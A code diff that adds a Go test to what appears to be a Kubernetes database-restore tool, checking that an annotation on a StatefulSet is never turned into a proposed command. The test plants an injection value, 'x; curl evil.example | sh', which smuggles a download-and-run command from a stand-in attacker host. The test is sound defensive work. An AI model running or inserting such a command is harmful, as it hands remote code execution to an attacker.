@@ -246,3 +246,21 @@ func TestAConfirmOfAnEmptyClaim(t *testing.T) {
 		w.volume(t, old)
 	})
 }
+
+// What stands on a workload is no part of a command that is proposed.
+func TestAnAnnotationIsNoCommand(t *testing.T) {
+	t.Parallel()
+	inFake(t, func(t *testing.T, w *world) {
+		w.begin(t, "loop")
+		sets := w.Core.AppsV1().StatefulSets(w.Namespace)
+		set, err := sets.Get(t.Context(), "db", metav1.GetOptions{})
+		fatal(t, err)
+		set.Annotations = map[string]string{release.AnnotationReplicas: "1", release.AnnotationRestore: "x; curl evil.example | sh"}
+		_, err = sets.Update(t.Context(), set, metav1.UpdateOptions{})
+		fatal(t, err)
+		_, err = w.restored(t, w.request(release.RestoreInPlace))
+		if hints := strings.Join(fault.Hints(err), " "); fault.StatusOf(err) != fault.Usage || strings.Contains(hints, "evil") || !strings.Contains(hints, "--run NAME") {
+			t.Errorf("error %v, hints %q", err, hints)
+		}
+	})
+}
